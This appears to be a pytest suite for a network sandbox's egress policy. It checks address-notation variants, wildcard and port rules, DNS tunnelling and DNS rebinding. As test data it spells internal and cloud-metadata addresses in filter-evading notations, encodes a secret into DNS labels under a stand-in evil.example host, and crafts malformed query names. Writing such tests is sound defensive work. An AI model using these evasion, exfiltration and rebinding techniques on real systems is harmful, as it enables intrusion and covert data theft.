"""Names and addresses: what a rule names is reached under every spelling, anything else under none.

E35 (addresses in all notations), E36 (odd names), E39 (DNS as a way out, rebinding). Natively each
attempt arrives; what arrives is seen by oracles and in the log of the DNS servers outside.
"""

import ipaddress
import json

import pytest

from harness import line_of
from outside_world import FOREIGN_RESOLVER, METADATA, PRIVATE

PORT = 443
NXDOMAIN = 3


@pytest.fixture
def good(out):
    return out.oracle("good.example", PORT)


@pytest.fixture
def evil(out):
    return out.oracle("evil.example", PORT)


def reports(done):
    """The JSON values that names.py says."""
    assert done.code == 0, done
    return [json.loads(line) for line in done.text.splitlines()]


def spellings(text):
    """An IPv4 address in the notations that getaddrinfo takes."""
    number = int(ipaddress.IPv4Address(text))
    a, b, c, d = text.split(".")
    return [text, str(number), hex(number), oct(number).replace("0o", "0"),
            f"{a}.{b}.{int(c) * 256 + int(d)}", f"{a}.{int(b) * 65536 + int(c) * 256 + int(d)}",
            f"0x{int(a):x}.0{int(b):o}.{c}.0x{int(d):x}", f"::ffff:{text}",
            f"::ffff:{number >> 16:x}:{number & 0xffff:x}", f"0:0:0:0:0:ffff:{text}"]


# ---- Addresses (E35)


def test_an_address_is_judged_in_every_notation(connected, out, evil):
    private, metadata = out.oracle_at(PRIVATE, PORT), out.oracle_at(METADATA, PORT)
    hosts = [word for address in (evil.address, PRIVATE, METADATA) for word in spellings(address)]
    hosts += [evil.address6, ipaddress.IPv6Address(evil.address6).exploded, evil.address6.upper()]
    words = connected.python("names.py", "connect", str(PORT), *hosts)
    native = reports(connected.native(words))
    assert native == ["ok"] * len(hosts), dict(zip(hosts, native))
    for oracle in (evil, private, metadata):
        assert oracle.data()
        oracle.forget()
    got = reports(connected.run_with(["good.example"], words))
    assert got == ["EACCES"] * len(hosts), dict(zip(hosts, got))
    assert not evil.records() + private.records() + metadata.records()
    assert set(connected.refused()) == {f"{evil.address}:{PORT}", f"{PRIVATE}:{PORT}",
                                        f"{METADATA}:{PORT}", f"[{evil.address6}]:{PORT}"}
    assert out.asked() == []


def test_a_rule_for_an_address_holds_in_every_notation(connected, evil):
    hosts = spellings(evil.address) + [evil.address6, evil.address6.upper()]
    words = connected.python("names.py", "connect", str(PORT), *hosts)
    rules = [f"{evil.address}:{PORT}", f"[{evil.address6}]:{PORT}"]
    assert reports(connected.run_with(rules, words)) == ["ok"] * len(hosts)
    assert evil.data() == [b"CANARY"] * len(hosts)
    assert connected.refused() == []
    assert set(connected.allowed()) == set(rules)


def test_the_host_s_loopback_in_every_notation(connected, out):
    """Where nobody listens inside, it is the host's, and that needs a rule."""
    here, here6 = out.oracle_at("127.0.0.1", PORT), out.oracle_at("::1", PORT)
    hosts = ["localhost", "0.0.0.0", "0", "127.1", "2130706433", "0x7f.1", "0177.0.0.1",
             "::ffff:127.0.0.1", "::1", "::", "0:0:0:0:0:0:0:1"]
    words = connected.python("names.py", "connect", str(PORT), *hosts)
    assert reports(connected.native(words)) == ["ok"] * len(hosts)
    here.forget()
    here6.forget()
    got = reports(connected.run_with(["good.example"], words))
    assert got == ["ECONNREFUSED"] * len(hosts), dict(zip(hosts, got))
    assert not here.records() + here6.records()
    assert {f"127.0.0.1:{PORT}", f"[::1]:{PORT}"} <= set(connected.refused())
    rules = [f"127.0.0.1:{PORT}", f"[::1]:{PORT}"]
    got = reports(connected.run_with(rules, words))
    assert got == ["ok"] * len(hosts), dict(zip(hosts, got))
    assert len(here.records() + here6.records()) == len(hosts)


def test_ranges_of_addresses(connected, out, evil):
    private = out.oracle_at(PRIVATE, PORT)
    words = connected.python("names.py", "connect", str(PORT), PRIVATE, evil.address, evil.address6)
    assert reports(connected.run_with(["10.0.0.0/8"], words)) == ["ok", "EACCES", "EACCES"]
    assert reports(connected.run_with([f"10.77.0.0/16:{PORT}"], words))[0] == "ok"
    assert reports(connected.run_with(["10.0.0.0/8:5432"], words))[0] == "EACCES"
    assert reports(connected.run_with(["45.67.113.0/24", "2a0f:db8::/32"], words)) == [
        "EACCES", "ok", "ok"]
    assert len(private.records()) == 2 and len(evil.records()) == 2


# ---- Names


def test_a_name_is_reached_by_its_rule_and_recorded_by_its_name(connected, out, good, evil):
    hosts = ["good.example", "GOOD.Example", "good.example.", "evil.example", "x.good.example",
             "goodXexample", "good.example.evil.example", "bad-good.example"]
    out.resolves("x.good.example", A=[evil.address])
    out.resolves("good.example.evil.example", A=[evil.address])
    out.resolves("bad-good.example", A=[evil.address])
    words = connected.python("names.py", "connect", str(PORT), *hosts)
    native = reports(connected.native(words))
    assert [one == "ok" for one in native] == [True] * 5 + [False] + [True] * 2
    asked = len(out.queries())
    evil.forget()
    good.forget()
    got = reports(connected.run_with(["good.example:443"], words))
    assert got[:3] == ["ok"] * 3, got
    assert all("gaierror" in one for one in got[3:]), got
    assert len(good.records()) == 3 and evil.records() == []
    assert {query["name"] for query in out.queries()[asked:]} == {"good.example"}
    assert {"good.example:443"} <= set(connected.allowed())
    denied = {entry["context"]["host"]: entry["context"]["protocol"]
              for entry in connected.connections("deny")}
    assert denied.pop("good.example", "tcp") == "tcp"  # its client speaks no TLS
    assert {"evil.example", "x.good.example"} <= set(denied)
    assert set(denied.values()) == {"dns"}


def test_entries_say_what_was_looked_at(connected, out, good):
    out.resolves("a.example.com", A=[good.address])
    opaque = ('@opaque permit(principal, action == Aegis::Action::"NetConnect", '
              'resource in Aegis::Resource::"*.example.com");\n')
    policy = connected.rules("good.example:443", f"{good.address}:443", more=opaque)
    words = connected.python("names.py", "connect", str(PORT), "good.example", "a.example.com",
                             good.address)
    assert reports(connected.run(words, policy=policy)) == ["ok"] * 3
    assert {entry["resource"]: entry["context"].get("inspection")
            for entry in connected.connections("allow")} == {
                f"good.example:{PORT}": "name", f"a.example.com:{PORT}": "none",
                f"{good.address}:{PORT}": None}


def test_rules_for_domains_and_ports(connected, out, good):
    for name in ("a.example.com", "b.a.example.com", "example.com"):
        out.resolves(name, A=[good.address])
    names = ["a.example.com", "b.a.example.com", "example.com", "good.example"]
    words = connected.python("names.py", "connect", str(PORT), *names)

    def reached(*rules):
        return [one == "ok" for one in reports(connected.run_with(rules, words))]
    assert reached("*.example.com") == [True, True, False, False]
    assert reached(f"*.example.com:{PORT}") == [True, True, False, False]
    assert reached("*.example.com:80") == [False] * 4
    assert reached(f"*:{PORT}") == [True] * 4
    assert reached("*:80") == [False] * 4
    assert reached("good.example:80", "example.com") == [False, False, True, False]


def test_any_named_host_is_no_address(connected, good, evil):
    words = connected.python("names.py", "connect", str(PORT), "good.example", evil.address,
                             evil.address6, METADATA, PRIVATE)
    got = reports(connected.run_with([f"*:{PORT}"], words))
    assert got == ["ok"] + ["EACCES"] * 4
    assert len(good.records()) == 1 and evil.records() == []


def test_a_permitted_name_opens_its_address_to_no_other(connected, out, good):
    """Two names of one address: they can't be told apart by it, so each has one of its own."""
    out.resolves("other.example", A=[good.address], AAAA=[good.address6])
    words = connected.python("names.py", "connect", str(PORT), "other.example", good.address,
                             good.address6)
    got = reports(connected.run_with(["good.example:443"], words))
    assert "gaierror" in got[0] and got[1:] == ["EACCES"] * 2, got
    assert good.records() == []


def test_another_port_of_a_permitted_host(connected, good, out):
    other = out.oracle("good.example", 80)
    words = connected.python("names.py", "connect", "80", "good.example")
    assert reports(connected.native(words)) == ["ok"]
    other.forget()
    assert reports(connected.run_with([f"good.example:{PORT}"], words)) == ["EACCES"]
    assert not other.records() + good.records()
    assert set(connected.refused()) == {"good.example:80"}


def test_aliases_and_the_hosts_file(connected, out, good):
    out.resolves("alias.example", CNAME=["good.example"])
    file = out.oracle_at("45.67.113.9", PORT)  # as /etc/hosts has it
    words = connected.python("names.py", "connect", str(PORT), "alias.example", "in-hosts.example")
    assert reports(connected.native(words)) == ["ok"] * 2
    assert reports(connected.run_with(["alias.example", "in-hosts.example"], words)) == ["ok"] * 2
    assert len(good.records()) == 2 and len(file.records()) == 2


# ---- DNS as a way out (E36, E39)


def wire(*labels):
    """A name of labels, of any bytes."""
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


SECRET = b"c2VjcmV0LWRhdGEtaW4tYS1sYWJlbA"
EXFILTRATION = {
    "below evil": wire(SECRET, b"evil", b"example"),
    "below good": wire(SECRET, b"good", b"example"),
    "long": wire(*[SECRET * 2] * 3, b"evil", b"example"),
    "a top level": wire(SECRET),
}
KINDS = ("A", "AAAA", "TXT", "NULL", "MX", "SRV", "CNAME", "HTTPS", "ANY", "NS", "PTR", "AXFR",
         "65280")


def ask(world, launch, queries):
    return reports(launch(world.python("names.py", "queries", json.dumps(queries))))


def test_names_carry_nothing_out(connected, out, good):
    out.resolves("evil.example", TXT=["orders"])
    queries = [("own", 53, transport, name.hex(), kind) for name in EXFILTRATION.values()
               for kind in KINDS for transport in ("udp", "tcp")]
    assert ask(connected, connected.native, queries[:2])[0]["rcode"] == NXDOMAIN
    before = len(out.queries())
    assert before == 2
    got = ask(connected, lambda words: connected.run_with(["good.example"], words), queries)
    assert out.queries()[before:] == []
    by_tcp = [one for one, query in zip(got, queries) if query[2] == "tcp"]
    assert all(one == {"error": "ECONNREFUSED"} for one in by_tcp), by_tcp  # datagrams alone
    by_udp = {query[3:]: one for one, query in zip(got, queries) if query[2] == "udp"}
    assert {one["rcode"] for one in by_udp.values()} <= {NXDOMAIN, 4, 5}  # not implemented, refused
    assert {one["rcode"] for (_, kind), one in by_udp.items() if kind in ("A", "AAAA", "TXT")} \
        == {NXDOMAIN}
    assert not any(one["answers"] for one in by_udp.values())
    hosts = {entry["context"]["host"] for entry in connected.connections("deny")}
    assert f"{SECRET.decode().lower()}.good.example" in {host.lower() for host in hosts}
    assert good.records() == []


def test_texts_of_permitted_names_do_not_come_in(connected, out, good):
    out.resolves("good.example", A=[good.address], TXT=["orders"])
    name = wire(b"good", b"example").hex()
    queries = [("own", 53, "udp", name, kind) for kind in ("TXT", "NULL", "ANY", "A")]
    assert ask(connected, connected.native, queries)[0]["answers"]
    before = len(out.queries())
    got = ask(connected, lambda words: connected.run_with(["good.example"], words), queries)
    assert not got[0]["answers"] and not got[1]["answers"]
    assert got[3]["rcode"] == 0 and len(got[3]["answers"]) == 1
    assert {query["type"] for query in out.queries()[before:]} <= {"A", "AAAA"}


ODD_NAMES = {
    "a dot within a label": wire(b"good.example"),
    "NUL behind": wire(b"good", b"example\0"),
    "NUL before": wire(b"evil\0", b"good", b"example"),
    "NUL and more": wire(b"good", b"example\0", b"evil", b"example"),
    "a line": wire(b"evil\r\n", b"good", b"example"),
    "percent": wire(b"good%00", b"example"),
    "blank": wire(b"good ", b"example"),
    "high bytes": wire(b"g\xf6\xf6d", b"example"),
    "a star": wire(b"*", b"example"),
    "user": wire(b"good", b"example@evil", b"example"),
    "a slash": wire(b"good", b"example/evil", b"example"),
    "a backslash": wire(b"good\\", b"example"),
    "an underscore": wire(b"_443", b"_tcp", b"good", b"example"),
    "a wide dot": wire("good．example".encode()),
    "too long": wire(*[b"x" * 63] * 4, b"good", b"example"),
    "a label too long": b"\x40" + b"x" * 64 + b"\0",
    "a pointer to itself": b"\xc0\x0c",
    "a pointer beyond": b"\xc1\xff",
    "no end": b"\x04good\x07examp",
}


def test_odd_names_are_no_permitted_ones(connected, out, good):
    queries = [("own", 53, "udp", name.hex(), kind) for name in ODD_NAMES.values()
               for kind in ("A", "AAAA")]
    permitted = [("own", 53, "udp", wire(b"GoOd", b"eXample").hex(), "A"),
                 ("own", 53, "udp", wire(b"good", b"example").hex(), "AAAA")]
    before = len(out.queries())
    got = ask(connected, lambda words: connected.run_with(["good.example"], words),
              queries + permitted)
    for query, one in zip(queries, got):
        assert one.get("answers", []) == [] and one.get("rcode") != 0, (query, one)
    for one in got[-2:]:
        assert one["rcode"] == 0 and one["id"] == 4711 and len(one["answers"]) == 1, one
    assert {query["name"] for query in out.queries()[before:]} == {"good.example"}
    assert good.records() == []


def test_another_resolver_is_a_host_like_any(connected, out):
    name = wire(SECRET, b"evil", b"example").hex()
    queries = [(FOREIGN_RESOLVER, 53, transport, name, "TXT") for transport in ("udp", "tcp")]
    assert [one["rcode"] for one in ask(connected, connected.native, queries)] == [NXDOMAIN] * 2
    assert [query["server"] for query in out.queries()] == [FOREIGN_RESOLVER] * 2
    got = ask(connected, lambda words: connected.run_with(["evil.example"], words), queries)
    assert got == [{"error": "EACCES"}] * 2
    assert len(out.queries()) == 2
    assert set(connected.refused()) == {f"{FOREIGN_RESOLVER}:53"}
    rules = [f"{FOREIGN_RESOLVER}:53"]
    twin = ask(connected, lambda words: connected.run_with(rules, words), queries[1:])
    assert twin == [{"rcode": NXDOMAIN, "id": 4711, "answers": []}]
    assert len(out.queries()) == 3


def test_the_host_s_resolver_is_out_of_reach(connected, out):
    name = wire(SECRET, b"evil", b"example").hex()
    queries = [(server, 53, transport, name, "A") for server in ("127.0.0.53", "127.0.0.2")
               for transport in ("udp", "tcp")]
    ask(connected, connected.native, queries[:2])
    before = len(out.queries())
    assert before == 2
    got = ask(connected, lambda words: connected.run_with(["good.example"], words), queries)
    assert len(out.queries()) == before
    assert all(one.get("rcode") in (None, NXDOMAIN, 5) for one in got), got


# ---- Answers that change (E39)


class Steps:
    """A program that resolves and connects when it is told to."""

    def __init__(self, launch, name):
        self.process = launch(name)

    def do(self, word):
        self.process.stdin.write(word.encode() + b"\n")
        self.process.stdin.flush()
        replies = [json.loads(line_of(self.process))]
        if word == "both" and "gaierror" not in replies[0]:
            replies.append(json.loads(line_of(self.process)))
        return replies[-1]

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.communicate(timeout=60)


def steps(world, *rules):
    """Natively without rules."""
    words = world.python("names.py", "steps")
    if rules:
        return lambda name: world.start_with(rules, [*words, name, str(PORT)])
    return lambda name: world.start([*words, name, str(PORT)], stdin=-1)


INTERNAL = {"loopback": "127.0.0.1", "private": PRIVATE, "metadata": METADATA, "loopback 6": "::1",
            "private, mapped": f"::ffff:{PRIVATE}"}


def points_to(out, name, address):
    """Says so from now on, and that nobody keep it."""
    out.resolves(name, ttl=0, **{"AAAA" if ":" in address else "A": [address]})


@pytest.mark.parametrize("where", INTERNAL)
def test_a_permitted_name_that_turns_inward(connected, out, good, where):
    target = INTERNAL[where]
    plain = target.removeprefix("::ffff:")
    inner = out.oracle_at(plain, PORT)
    for launch, result in ((steps(connected), "ok"), (steps(connected, "turns.example"), None)):
        points_to(out, "turns.example", good.address)
        with Steps(launch, "turns.example") as program:
            assert program.do("both") == "ok"
            points_to(out, "turns.example", target)
            turned = program.do("both")
        assert turned == "ok" if result else turned != "ok", turned
        assert bool(inner.records()) == bool(result), where
        inner.forget()
    assert len(good.records()) == 2
    denied = connected.connections("deny")
    assert any(entry["context"]["host"] in ("turns.example", plain) for entry in denied)
    literal = f"[{plain}]:{PORT}" if ":" in plain else f"{plain}:{PORT}"
    with Steps(steps(connected, "turns.example", literal), "turns.example") as program:
        assert program.do("both") == "ok"
    assert len(inner.records()) == 1


def test_a_name_is_not_asked_for_again_between_check_and_dial(connected, out, good):
    inner = out.oracle_at(PRIVATE, PORT)
    points_to(out, "flips.example", good.address)
    with Steps(steps(connected, "flips.example"), "flips.example") as program:
        program.do("resolve")
        points_to(out, "flips.example", PRIVATE)
        assert program.do("connect") == "ok"
        assert program.do("connect") == "ok"
        assert program.do("both") != "ok"
    assert len(good.records()) == 2 and inner.records() == []


def test_a_name_that_keeps_turning_never_leads_inward(connected, out, good):
    """Every other answer is internal: whatever the moment, only the public one is reached."""
    inner = out.oracle_at(PRIVATE, PORT)

    def reached(launch):
        out.resolves("mixed.example", ttl=0, sequence=[
            {"A": [[good.address], [PRIVATE]][number % 2]} for number in range(200)])
        with Steps(launch, "mixed.example") as program:
            for _ in range(40):
                program.do("both")
        seen = len(inner.records()), len(good.records())
        inner.forget()
        good.forget()
        return seen
    assert reached(steps(connected)) == (20, 20)
    inward, outward = reached(steps(connected, "mixed.example"))
    assert inward == 0 and outward > 0


def test_internal_addresses_among_others(connected, out, good):
    inner = out.oracle_at(METADATA, PORT)
    out.resolves("both.example", A=[METADATA, good.address])
    for launch, reached in ((steps(connected), True), (steps(connected, "both.example"), False)):
        inner.forget()
        with Steps(launch, "both.example") as program:
            for _ in range(4):
                program.do("both")
        assert bool(inner.records()) == reached


def test_addresses_that_nobody_was_given(connected, out, good):
    """What stands for hosts inside is nothing by itself, and next to it there is nothing."""
    hosts = ["198.18.0.1", "198.18.0.77", "198.19.255.254"]
    oracles = [out.oracle_at(host, PORT) for host in hosts]
    words = connected.python("names.py", "connect", str(PORT), *hosts)
    assert reports(connected.native(words)) == ["ok"] * 3
    assert all(oracle.records() for oracle in oracles)
    for oracle in oracles:
        oracle.forget()
    got = reports(connected.run_with(["good.example", f"*:{PORT}"], words))
    assert set(got) <= {"EACCES", "ECONNREFUSED"}, got
    assert not any(oracle.records() for oracle in oracles)
    with Steps(steps(connected, "good.example"), "good.example") as program:
        given = program.do("resolve")
        assert good.address not in given
        assert "ok" not in program.do("around")
        assert program.do("connect") == "ok"
    assert len(good.records()) == 1 and not any(oracle.records() for oracle in oracles)
